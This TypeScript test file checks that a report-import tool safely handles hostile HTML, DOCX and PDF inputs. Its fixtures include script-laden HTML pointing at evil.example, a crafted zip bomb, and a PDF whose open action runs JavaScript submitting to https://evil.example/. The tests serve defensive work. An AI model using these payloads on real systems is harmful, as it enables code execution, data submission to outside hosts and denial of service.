import { zipSync, strToU8 } from 'fflate';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { extractFromHtml } from './adapters/readers';
import { DOCX_LIMITS } from './adapters/docx';
import { extractReport } from './importReport';
import { fixtureBytes } from '../../../testing/testTruth';

/**
 * Untrusted documents: nothing in them is executed or fetched, and a file built to exhaust
 * memory is refused by a bound before it is unpacked.
 */
afterEach(() => {
  vi.restoreAllMocks();
});

const ROW = (label: string, values: readonly number[]): string =>
  `<tr><td>${label}</td>${values.map((v) => `<td>${String(v)}</td>`).join('')}</tr>`;

describe('hostile inputs', () => {
  it('HTML with scripts, event attributes and external images: nothing run or fetched, text kept as text', () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const html = `<html><head><script>window.evil = 1</script>
      <meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
      <body onload="alert('x')"><nav>一、总体情况 首页 导航</nav>
      <p>示例局2023年政府信息公开工作年度报告</p>
      <p>一、总体情况</p><p onclick="alert(1)">正文<img src="https://evil.example/a.png" onerror="alert(2)">&lt;script&gt;alert(3)&lt;/script&gt;</p>
      <script>document.write('<p>二、上年结转政府信息公开申请数量 999</p>')</script>
      <p>三、收到和处理政府信息公开申请情况</p>
      <table>${ROW('一、本年新收政府信息公开申请数量', [1, 0, 0, 0, 0, 0, 1])}</table>
      <iframe src="https://evil.example/frame"></iframe><style>p{background:url(https://evil.example/b.png)}</style>
      <p>五、存在的主要问题及改进情况</p><p>无</p></body></html>`;
    const extracted = extractFromHtml(html);
    expect(extracted.sections.overview).toBe('正文<script>alert(3)</script>');
    expect(JSON.stringify(extracted)).not.toContain('evil');
    expect(JSON.stringify(extracted)).not.toContain('999');
    expect(extracted.cells.find((c) => c.cell === 'applications.received.total')?.value).toBe(1);
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('a DOCX declaring a huge unpacked size (zip bomb) is refused before it is inflated', async () => {
    const zip = zipSync({ 'word/document.xml': strToU8('<w:document/>') });
    // Patch the central directory's "uncompressed size" of the entry to almost 4 GB.
    const view = new DataView(zip.buffer);
    const central = zip.findIndex(
      (_, i) => view.getUint32(i, true) === 0x02014b50 && i + 46 < zip.length,
    );
    view.setUint32(central + 24, 0xfffffff0, true);
    const outcome = await extractReport(zip, 'bomb.docx');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'docx.tooLarge' } });
  });

  it('a DOCX with more entries than any report has is refused', async () => {
    const files: Record<string, Uint8Array> = { 'word/document.xml': strToU8('<w:document/>') };
    for (let i = 0; i <= DOCX_LIMITS.maxEntries; i++)
      files[`word/media/${String(i)}.bin`] = new Uint8Array(1);
    const outcome = await extractReport(zipSync(files), 'many.docx');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'docx.tooLarge' } });
  });

  it('a PDF with JavaScript and a font: no eval, no request, refused for having no report text', async () => {
    const evalSpy = vi.spyOn(globalThis, 'eval');
    const fetchSpy = vi.spyOn(globalThis, 'fetch');
    const outcome = await extractReport(pdfWithJavaScript(), 'script.pdf');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'pdf.noText' } });
    expect(evalSpy).not.toHaveBeenCalled();
    expect(fetchSpy).not.toHaveBeenCalled();
  });

  it('an encrypted PDF is refused with the reason', async () => {
    const outcome = await extractReport(fixtureBytes('hostile/encrypted.pdf'), 'encrypted.pdf');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'pdf.encrypted' } });
  });

  it('an image-only PDF (a scan) is refused with the reason', async () => {
    const outcome = await extractReport(fixtureBytes('hostile/image-only.pdf'), 'scan.pdf');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'pdf.noText' } });
  });

  it('an old binary Word file (.doc) is refused with the advice to save it as .docx', async () => {
    const ole = new Uint8Array(1024);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const outcome = await extractReport(ole, '2023年报告.doc');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'file.unknownKind' } });
  });

  it('a file that is not a report at all is refused, not imported empty', async () => {
    const text = new TextEncoder().encode('会议纪要\n今天天气很好。\n');
    const outcome = await extractReport(text, 'notes.txt');
    expect(outcome).toMatchObject({ ok: false, problem: { code: 'file.notReport' } });
  });
});

/** A one-page PDF whose catalog runs JavaScript on open and whose page uses Helvetica. */
function pdfWithJavaScript(): Uint8Array {
  const content = 'BT /F1 24 Tf 72 700 Td (Hello) Tj ET';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>',
    `<< /Length ${String(content.length)} >>\nstream\n${content}\nendstream`,
    "<< /S /JavaScript /JS (app.alert('x'); this.submitForm('https://evil.example/');) >>",
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${String(i + 1)} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${String(objects.length + 1)}\n0000000000 65535 f \n`;
  body += offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${String(objects.length + 1)} /Root 1 0 R >>\nstartxref\n${String(xref)}\n%%EOF\n`;
  return new TextEncoder().encode(body);
}
